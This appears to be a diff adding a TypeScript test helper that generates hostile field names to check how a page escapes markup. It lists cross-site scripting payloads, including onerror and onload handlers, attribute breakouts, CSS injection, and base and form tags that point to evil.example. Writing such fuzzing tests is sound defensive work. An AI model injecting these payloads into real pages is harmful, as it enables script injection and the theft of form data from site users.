@@ -1,0 +1,85 @@
+import type { Random } from '../../service/random.ts';
+
+/** What begins or ends something in HTML, CSS, a script or a template; no character that a name may not have. */
+const PARTS = [
+  '<',
+  '>',
+  '"',
+  "'",
+  '&',
+  '`',
+  '=',
+  '\\',
+  '/',
+  ';',
+  '}',
+  '{{',
+  '${',
+  '<!--',
+  '-->',
+  ']]>',
+  '<![CDATA[',
+  '</bdi>',
+  '</a>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '</textarea>',
+  '</option></select>',
+  '</template>',
+  '<script>a()</script>',
+  '<img src=x onerror=a()>',
+  '<svg onload=a()>',
+  '<base href=//evil.example>',
+  '<meta http-equiv=refresh content=0>',
+  '<plaintext>',
+  '<form action=//evil.example>',
+  '" onfocus="a()" autofocus="',
+  "' style='color:red",
+  '"><b>',
+  'x onclick=a()',
+  'javascript:a()',
+  'url(//evil.example)',
+  '} * { display: none',
+  '@import "//evil.example";',
+  'expression(a())',
+  '&lt;',
+  '&#60;',
+  '&quot;',
+  '&amp;lt;',
+  '\u00a0',
+  ' ',
+  'é',
+  '＜ｂ＞',
+  '日本',
+] as const;
+
+/** Ends whatever it stands in: an attribute, a comment, a title, a style, a script, a field. */
+const END_OF_ALL = `"'--></title></style></textarea></script></option><b>`;
+
+/** A name for a field. @param most characters that it may have */
+export type Namer = (field: string, most?: number) => string;
+
+/**
+ * Names that would be markup or CSS of their own if they were pasted, each of them once.
+ * @param given gets each of them
+ * @param isWorst whether each ends whatever it stands in, where there is room for that: then each place shows what it does to names
+ */
+export function hostileNamer(random: Random, given: string[], isWorst: boolean): Namer {
+  return (_field, most = 120) => {
+    const end = `~${given.length}~`;
+    let name = isWorst && most >= 80 ? END_OF_ALL : '';
+    for (let count = 1 + random.below(4); count > 0; count -= 1) {
+      const part = random.of(PARTS);
+      if ([...name, ...part].length + end.length <= most) name += part;
+    }
+    given.push(name + end);
+    return name + end;
+  };
+}
+
+/** What a page looks like when nobody means harm. */
+export function plainNamer(): Namer {
+  let count = 0;
+  return (field) => `${field} ${(count += 1)}`;
+}
